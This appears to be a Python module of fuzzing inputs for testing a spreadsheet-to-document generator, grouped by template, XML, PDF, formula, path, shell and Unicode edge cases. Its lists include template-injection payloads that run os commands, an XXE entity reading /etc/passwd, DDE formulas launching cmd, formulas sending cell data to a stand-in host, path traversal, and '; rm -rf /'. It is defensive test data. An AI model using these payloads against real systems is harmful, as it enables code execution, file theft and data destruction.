"""Values that a hostile or careless hand puts into a cell, by what they would be taken for."""

from itertools import chain

_JINJA = (
    "{{ 7*7 }}", "{{7*'7'}}", "{% for i in range(9) %}x{% endfor %}", "{# 注释 #}", "{{ self }}",
    "{{ config }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].system('id') }}", "{% include '/etc/passwd' %}", "{% import 'os' as o %}",
    "{{ worker.id_number }}", "{{ members[0].name|身份证掩码 }}", "{%tr for m in members %}",
    "{%p if true %}", "{{ '{{' }}", "{{", "}}", "{%", "%}", "{#", "#}", "{{ x }", "{ { 7*7 } }",
    "{{{{ 1 }}}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{=1}}", "%(name)s", "{0}", "{name}",
    "{worker.__class__}", "{!r}", "%s%s%n", "$worker", "@{1}", "⟦docgen:0⟧", "<!--docgen:0-->",
    "⟦docgen:99999⟧", "docgen:0", "sheet_rows.open(0)", "【docgen 核对】", "docgenCells",
)  # fmt: skip
_XML = (
    "<b>粗</b>", "</w:t></w:r></w:p>", "<w:br/>", "]]>", "<![CDATA[x]]>", "<!-- x -->",
    "<?xml version='1.0'?>", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>", "&b;", "&amp;",
    "&lt;script&gt;", "&#x0;", "&#0;", "&#65;", "&", "<", ">", "\"", "'", "\" onload=\"x",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<f>1+1</f>", "<c r=\"A1\"><f>1</f></c>",
    "</t></is></c>", "<w:instrText> DDEAUTO c:\\\\cmd </w:instrText>", "R&D", "a<b>c",
    "<w:altChunk r:id=\"x\"/>", "</w:body>", "xmlns:w='x'", "_x0041_", "_x000D_", "_x0000_", "_x001F_",
    "_xD800_", "_x005F_x0041_", "_X0041_", "&apos;&quot;",
)  # fmt: skip
_PDF = (
    ") Tj ET BT (", "(", ")", "\\", "\\)", "<< /JS (x) >>", ">>", "endstream endobj", "stream", "%%EOF",
    "1 0 R", "trailer", "startxref", "/OpenAction", "/Launch", "(\\050)", "\\101", "Tj", "q Q", "BI ID EI",
    "<FEFF0041>", "[(]", "xref 0 1", "%PDF-1.7", "/URI (http://x)", "\\n\\r", "((()", "12 0 obj", "/Names",
)  # fmt: skip
_FORMULA = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "+cmd|'/C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)", "=HYPERLINK(\"http://x/\"&A1,\"点\")", "=WEBSERVICE(\"http://x/\"&A2)",
    "=IMPORTXML(A1,\"//a\")", "=DDE(\"a\";\"b\";\"c\")", "=SUM(A1:A9)", "==1", "=", "+", "-", "@", "|calc",
    "＝1+1", "＋1", "－1", "＠a", "=1\n=2", "%0A=1+1", "\"=1+1\"", "'=1+1", ";=1+1", ",=1+1", "=A1",
    "={1,2}", "=1/0 ", "=@A1", "=+1", "1E5x", "--1", "1/2甲", "TRUE甲", "#甲",
)  # fmt: skip
_PATH = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\System32",
    "\\\\evil\\share\\a", "//evil/a", "file:///etc/passwd", "http://evil/a", "CON", "PRN.txt", "AUX", "NUL",
    "COM1", "LPT9", ".", "..", "...", "~", "~root", "a/b", "a\\b", "a:b", "a*b", "a?b", "a|b", "a.", "a .",
    "con.docx", "manifest.json", ".hidden", "desktop.ini", "困" * 300, "x" * 300, "%2e%2e%2f", "..%c0%af",
)  # fmt: skip
_SHELL = (
    "; rm -rf /", "$(id)", "`id`", "&& id", "|| id", "| id", "> /tmp/x", "< /etc/passwd", "-o evil",
    "--help", "-rf", "$HOME", "%PATH%", "!id", "*", "?", "a\\ b", "'; drop table 户; --", "\" or \"\"=\"",
    "-env:UserInstallation=x", "[red]红[/red]", "[/]", "[link=http://x]x[/link]", ":smile:",
)  # fmt: skip
_CONTROL = (
    "甲\x00乙", "甲\x01乙", "甲\x07乙", "甲\x08乙", "甲\x0b乙", "甲\x0c乙", "甲\x1b[31m红\x1b[0m",
    "甲\x1f乙", "甲\x7f乙", "甲\x85乙", "甲\x9b31m乙", "甲\ufffe乙", "甲\uffff乙", "甲\ufdd0乙",
    "甲\ufffd乙", "甲\ufff9乙\ufffa丙\ufffb", "甲\tTab", "甲\r乙", "甲\r\n乙", "甲\n乙", "甲\u2028乙",
    "甲\u2029乙",
)  # fmt: skip
_INVISIBLE = (
    "甲\u200b乙", "甲\u200c乙", "甲\u200d乙", "甲\u200e乙", "甲\u200f乙", "甲\u202a乙", "甲\u202e乙gnp.exe",
    "甲\u2066乙\u2069", "甲\u061c乙", "\ufeff甲", "甲\u00ad乙", "甲\u2060乙", "甲\u180e乙", "甲\u3164乙",
    "甲\u115f乙", "甲\u034f乙", "甲\u00a0乙", "甲\u3000乙", "甲\u2003乙", "甲\U000e0041乙",
    "甲\U000e0001乙", "\u200b", "\u202e",
)  # fmt: skip
_PLANES = (
    "😀", "👨‍👩‍👧", "🇨🇳", "👍🏽", "1️⃣", "☠️", "𠮷", "𬭎𫖯㛃", "\U00020000", "\U0002fa1d", "\U00030000",
    "\U000323af", "\ue000某", "\U000f0000", "\U0010ffff", "\U0010fffd", "\uffee", "\ud7ff", "\U00010000",
    "\U0001d11e", "e\u0301", "é", "ｶﾞ", "ÅÅ", "ß", "İı", "שלום", "سلام", "नमस्ते", "ไทย", "한국", "Ω≈ç√",
    "甲" + "\u0301" * 40, "\u0301", "ﬁ", "№", "㈠", "〇", "𝒳", "龘", "䶮", "￥１００", "～", "·", "—", "……",
    "\u2f00", "丨丿",
)  # fmt: skip
_EMPTY = (
    "null",
    "None",
    "nan",
    "NaN",
    "undefined",
    "true",
    "false",
    "0",
    "NULL",
    "N/A",
    "#N/A",
    "#REF!",
    "无",
    "——",
)

CLASSES = {
    "jinja": _JINJA,
    "xml": _XML,
    "pdf": _PDF,
    "formula": _FORMULA,
    "path": _PATH,
    "shell": _SHELL,
    "control": _CONTROL,
    "invisible": _INVISIBLE,
    "planes": _PLANES,
    "empty": _EMPTY,
}
HALVES = ("甲\ud800乙", "\udfff", "\ud83d", "\udc00\ud800")  # no file but JSON can hold them
PAYLOADS = tuple(dict.fromkeys(chain.from_iterable(CLASSES.values())))
